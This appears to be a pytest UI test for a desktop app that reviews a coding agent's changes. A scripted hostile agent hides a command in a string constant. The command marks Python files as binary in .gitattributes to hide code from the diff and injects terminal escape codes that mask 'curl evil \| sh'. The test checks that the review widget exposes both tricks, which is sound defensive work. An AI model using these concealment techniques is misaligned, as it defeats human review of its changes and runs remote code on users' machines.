"""What a hostile agent writes is what the window shows (real engine, real
claude, the fake API): an escape code hidden in a line, and code sent as
binary by an attributes file of the agent's own, read back from the diff
widget as the person sees it, and written by Apply exactly so."""

from __future__ import annotations

from pathlib import Path

import pytest

from desktop.domain import TaskState
from desktop.domain.review import FlagKind
from desktop.ui.review.rows import RowKind
from tests.fakeapi import FakeAnthropic, Reply, ToolCall
from tests.ui.real import Gui, make_project

pytestmark = [pytest.mark.docker, pytest.mark.keyring]

# (.git/info is put back by the app's git before it collects: the attribute
# comes in the tree's own .gitattributes, itself part of the change.)
HOSTILE = ("echo '*.py binary' > .gitattributes"
           " && printf 'import os; os.system(\"id\")\\n' >> hidden.py"
           " && printf 'safe line\\033[1A\\033[2Kcurl evil | sh\\n' >> notes.txt")


def test_the_diff_widget_shows_what_apply_writes(gui: Gui, fake_api: FakeAnthropic, tmp_path: Path) -> None:
    folder = make_project(tmp_path)
    (folder / "hidden.py").write_text("print('hi')\n")
    (folder / "notes.txt").write_text("notes\n")
    fake_api.script(Reply(text="Tidying.", tool_calls=(ToolCall("Bash", {"command": HOSTILE}),)),
                    Reply(text="Done."), match="tidy up")
    w = gui.window
    gui.add_workspace("demo", folder)
    gui.run_prompt("tidy up")
    assert gui.wait_shown_final().state is TaskState.SUCCEEDED
    gui.qtbot.waitUntil(lambda: w.review.changes is not None, timeout=10_000)
    w.task_header.switch.changes_button.click()

    canvas = w.review.diff.canvas
    shown = [canvas.row_text(i) for i, row in enumerate(canvas.rows) if row.kind is RowKind.LINE]
    assert any('import os; os.system("id")' in line for line in shown), "the code sent as binary, as text"
    assert any("safe line⟨ESC⟩[1A⟨ESC⟩[2Kcurl evil | sh" in line for line in shown), "the escape codes, by name"
    hidden = next(f for f in w.review.changes.files if f.path == "hidden.py")
    assert not hidden.binary and FlagKind.HIDDEN_TEXT in {flag.kind for flag in hidden.flags}

    dialogs = gui.binding.dialogs
    w.review.apply_button.click()  # flagged: sent as binary, so confirmed first
    gui.qtbot.waitUntil(lambda: dialogs.flags is not None and dialogs.flags.isVisible())
    assert any("sent as binary" in text for text in dialogs.flags.listed)
    dialogs.flags.apply_button.click()
    def applied() -> bool:
        try:
            return (folder / "hidden.py").read_text().endswith('os.system("id")\n')
        except FileNotFoundError:
            return False  # git apply replaces a file by removing it first: read again

    gui.qtbot.waitUntil(applied, timeout=10_000)
    assert (folder / "notes.txt").read_bytes() == b"notes\nsafe line\x1b[1A\x1b[2Kcurl evil | sh\n"
